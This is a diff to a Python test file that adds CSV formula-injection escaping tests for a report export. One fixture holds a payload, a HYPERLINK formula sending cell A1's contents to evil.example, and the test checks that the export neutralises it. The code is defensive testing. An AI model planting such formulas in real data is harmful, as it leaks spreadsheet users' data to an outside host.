@@ -312,10 +312,31 @@ async def test_the_csv_export_has_the_json_rows(
         assert response.content.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
         header, *lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
         assert header == list(as_json["rows"][0])
-        assert lines == [
-            ["" if v is None else str(v) for v in row.values()] for row in as_json["rows"]
-        ]
+        assert lines == [[_as_text(v) for v in row.values()] for row in as_json["rows"]]
         assert any(line[0] == body.id and line[4] == "陈评价" for line in lines)
+
+
+def _as_text(value: object) -> str:
+    """A JSON value as its CSV cell: a text a spreadsheet would run is led by `'`."""
+    if value is None:
+        return ""
+    text = str(value)
+    return "'" + text if isinstance(value, str) and text[:1] in ("=", "+", "-", "@") else text
+
+
+async def test_a_name_that_is_a_formula_is_a_text_cell_in_the_csv(
+    client: httpx.AsyncClient, admin: Headers, reader: Headers, token_for: TokenFactory
+) -> None:
+    start = datetime.now(UTC)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")'
+    body = await new_body(client, admin, token_for, person=formula)
+    params = {"from": start.isoformat(), "to": _soon().isoformat(), "format": "csv"}
+    response = await client.get(URL, headers=reader, params=params)
+    assert response.status_code == 200, response.text
+    header, *lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    [line] = [line for line in lines if line[0] == body.id]
+    assert line[header.index("person_name")] == "'" + formula
+    assert all(not cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)
 
 
 async def test_the_report_needs_reports_read(
